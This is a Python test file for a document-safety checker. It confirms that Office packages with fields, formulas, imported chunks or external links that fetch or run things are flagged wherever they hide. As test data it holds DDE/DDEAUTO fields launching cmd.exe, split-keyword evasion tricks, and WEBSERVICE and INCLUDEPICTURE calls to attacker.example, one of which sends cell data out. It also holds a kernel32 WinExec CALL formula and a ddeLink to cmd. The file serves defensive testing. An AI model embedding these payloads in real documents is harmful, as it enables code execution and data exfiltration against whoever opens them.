"""Active content is found wherever it hides, by the one package check.

Fields that fetch or run something (DDE, DDEAUTO, INCLUDETEXT,
INCLUDEPICTURE, IMPORT, WEBSERVICE) in simple and complex fields however
their code is split or joined, formulas that call programs or the network in
any formula element, imported HTML/RTF/MHT chunks, and external link parts,
in every part whatever its path, namespace or content type.
"""

from __future__ import annotations

import pytest

from selfassess.forms.parse import parse_form
from selfassess.safety.package import active_formula, check_package
from tests.hostile import corpus
from tests.support.zipparts import parts_of, with_parts

W_STRICT = "http://purl.oclc.org/ooxml/wordprocessingml/main"
FIELD_WARNING = "active_field"


def r(xml: str) -> str:
    return f"<w:r>{xml}</w:r>"


def char(kind: str) -> str:
    return r(f'<w:fldChar w:fldCharType="{kind}"/>')


def instr(text: str) -> str:
    return r(f'<w:instrText xml:space="preserve">{text}</w:instrText>')


def complex_field(*pieces: str, result: str = "1") -> str:
    return (
        char("begin")
        + "".join(instr(p) for p in pieces)
        + char("separate")
        + r(f"<w:t>{result}</w:t>")
        + char("end")
    )


FIELDS = {
    "ddeauto": complex_field('DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"'),
    "dde-split-in-a-word": complex_field("D", "DE", 'AUTO cmd "/c calc"'),
    "page-right-before-ddeauto": complex_field("PAGE") + complex_field("DDEAUTO", ' cmd "/c calc"'),
    "page-and-ddeauto-in-one-run-sequence": char("begin")
    + instr("PAGE")
    + char("end")
    + char("begin")
    + instr("DDEAUTO cmd")
    + char("end"),
    "includetext-simple": '<w:fldSimple w:instr=" INCLUDETEXT &quot;c:\\\\s.txt&quot;"/>',
    "includepicture": complex_field('INCLUDEPICTURE "http://attacker.example/p.png" \\d'),
    "import": complex_field('IMPORT "http://attacker.example/x.wmf"'),
    "webservice-lower-case": complex_field('  webservice "http://attacker.example/"'),
    "keyword-from-nested-field": char("begin")
    + complex_field("QUOTE 68 68 69")
    + instr(' cmd "/c calc"')
    + char("end"),
    "orphan-instr-text": instr("DD") + instr("E x y"),
    "nested-inside-if": char("begin")
    + instr("IF 1 = 1 ")
    + complex_field('INCLUDETEXT "c:\\\\x"')
    + char("end"),
}


@pytest.mark.parametrize("code", FIELDS.values(), ids=FIELDS.keys())
def test_fields_that_fetch_or_run_are_flagged(code: str) -> None:
    parts = corpus.docx_parts(corpus.document_xml(f"<w:p>{code}</w:p>"))
    warnings = check_package(corpus.package(parts)).warnings
    assert any(w.code == FIELD_WARNING for w in warnings), warnings


@pytest.mark.parametrize(
    "code",
    [complex_field("PAGE"), complex_field('HYPERLINK "https://x"'), complex_field("DATE")],
)
def test_harmless_fields_are_not_flagged(code: str) -> None:
    parts = corpus.docx_parts(corpus.document_xml(f"<w:p>{code}</w:p>"))
    assert check_package(corpus.package(parts)).warnings == []


@pytest.mark.parametrize(
    "part",
    ["word/footer1.xml", "word/glossary/document.xml", "customXml/evil.xml", "x/y/z.bin"],
)
def test_fields_are_found_in_any_part_whatever_its_path(part: str) -> None:
    body = corpus.document_xml(f"<w:p>{FIELDS['ddeauto']}</w:p>")
    parts = corpus.docx_parts() | {part: body}
    warnings = check_package(corpus.package(parts)).warnings
    assert any(w.code == FIELD_WARNING and w.location == part for w in warnings), warnings


def test_fields_in_the_strict_namespace_are_found() -> None:
    body = corpus.document_xml(f"<w:p>{FIELDS['ddeauto']}</w:p>").replace(
        corpus.W_NS.encode(), W_STRICT.encode()
    )
    warnings = check_package(corpus.package(corpus.docx_parts() | {"word/x.xml": body})).warnings
    assert any(w.code == FIELD_WARNING for w in warnings)


def test_a_field_in_a_real_form_reaches_the_parse_result() -> None:
    data = corpus.real_form("docx")
    body = parts_of(data)["word/document.xml"]
    field = f"<w:p>{FIELDS['page-right-before-ddeauto']}</w:p>".encode()
    data = with_parts(
        data, {"word/document.xml": body.replace(b"<w:sectPr", field + b"<w:sectPr", 1)}
    )
    result = parse_form(data, key=corpus.KEY)
    assert any(p.code == FIELD_WARNING and p.severity == "warning" for p in result.problems)


# --- formulas ---------------------------------------------------------------------

FORMULAS = [
    "='cmd'|' /C calc'!A0",
    "cmd|'/c calc'!A1",
    '_xlfn.WEBSERVICE("http://attacker.example/?"&A1)',
    'FILTERXML(WEBSERVICE("http://x"),"//a")',
    'CALL("kernel32","WinExec","JCJ","calc",0)',
]


@pytest.mark.parametrize("formula", FORMULAS)
def test_active_formulas_are_recognised(formula: str) -> None:
    assert active_formula(formula)


@pytest.mark.parametrize("formula", ["SUM(A1:A3)", '"a|b"&"c"', "IF(A1>0,1,0)", "'My sheet'!A1"])
def test_ordinary_formulas_are_not(formula: str) -> None:
    assert not active_formula(formula)


@pytest.mark.parametrize(
    ("part", "xml"),
    [
        (
            "xl/worksheets/sheet1.xml",
            '<sheetData><row r="1"><c r="A1"><f>{f}</f></c></row></sheetData>',
        ),
        (
            "xl/worksheets/sheet1.xml",
            '<sheetData/><dataValidations count="1"><dataValidation type="list" sqref="A1">'
            "<formula1>{f}</formula1></dataValidation></dataValidations>",
        ),
        (
            "xl/worksheets/sheet1.xml",
            '<sheetData/><conditionalFormatting sqref="A1"><cfRule type="expression" '
            'priority="1"><formula>{f}</formula></cfRule></conditionalFormatting>',
        ),
        (
            "xl/stash/odd-name.bin",
            '<sheetData><row r="1"><c r="A1"><f>{f}</f></c></row></sheetData>',
        ),
    ],
    ids=["cell", "validation", "conditional-format", "any-path"],
)
def test_formulas_are_checked_in_every_formula_element_and_part(part: str, xml: str) -> None:
    parts = corpus.xlsx_parts()
    parts[part] = corpus.sheet_xml(xml.format(f=_escape(FORMULAS[2])))
    warnings = check_package(corpus.package(parts)).warnings
    assert any(w.code == "active_formula" for w in warnings), warnings


def test_a_defined_name_that_calls_the_network_is_flagged() -> None:
    parts = corpus.xlsx_parts()
    parts["xl/workbook.xml"] = parts["xl/workbook.xml"].replace(
        b"</sheets>",
        b'</sheets><definedNames><definedName name="x">'
        + _escape(FORMULAS[2]).encode()
        + b"</definedName></definedNames>",
    )
    warnings = check_package(corpus.package(parts)).warnings
    assert any(w.code == "active_formula" for w in warnings), warnings


def _escape(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace('"', "&quot;")


# --- imported chunks and external links ---------------------------------------------


def test_alt_chunk_is_flagged_by_element_relationship_and_part() -> None:
    parts = corpus.docx_parts(
        corpus.document_xml('<w:altChunk r:id="rId9"/>'.replace("r:id", "w:id"))
    )
    parts["word/_rels/document.xml.rels"] = corpus.relationships(
        [("aFChunk", "../stash/chunk.mht", None)]
    )
    parts["stash/chunk.mht"] = b"MIME-Version: 1.0\r\n\r\n<script>x</script>"
    warnings = check_package(corpus.package(parts)).warnings
    chunk = [w for w in warnings if w.code == "alt_chunk"]
    assert {
        n
        for n in ("word/document.xml", "word/_rels/document.xml.rels", "stash/chunk.mht")
        if any(w.location == n for w in chunk)
    } == {"word/document.xml", "word/_rels/document.xml.rels", "stash/chunk.mht"}


@pytest.mark.parametrize("name", ["word/afchunk.rtf", "word/page.html", "a/b.mhtml"])
def test_chunk_parts_are_flagged_by_name(name: str) -> None:
    parts = corpus.docx_parts() | {name: b"{\\rtf1 {\\object\\objdata 0105}}"}
    assert any(w.code == "alt_chunk" for w in check_package(corpus.package(parts)).warnings)


def test_external_link_part_is_flagged_wherever_stored() -> None:
    parts = corpus.xlsx_parts()
    parts["xl/other/link9.xml"] = (
        f'<externalLink xmlns="{corpus.S_NS}"><ddeLink ddeService="cmd" ddeTopic="/c calc"/>'
        "</externalLink>"
    ).encode()
    warnings = check_package(corpus.package(parts)).warnings
    assert ("external_link", "xl/other/link9.xml") in [(w.code, w.location) for w in warnings]


def test_external_link_is_flagged_by_content_type() -> None:
    parts = corpus.xlsx_parts()
    parts["[Content_Types].xml"] = corpus.content_types(
        {
            "xl/workbook.xml": corpus.CT_XLSX_MAIN,
            "xl/worksheets/sheet1.xml": corpus.CT_SHEET,
            "xl/l.bin": "application/vnd.openxmlformats-officedocument.spreadsheetml."
            "externalLink+xml",
        }
    )
    parts["xl/l.bin"] = b"<anything/>"
    warnings = check_package(corpus.package(parts)).warnings
    assert ("external_link", "xl/l.bin") in [(w.code, w.location) for w in warnings]
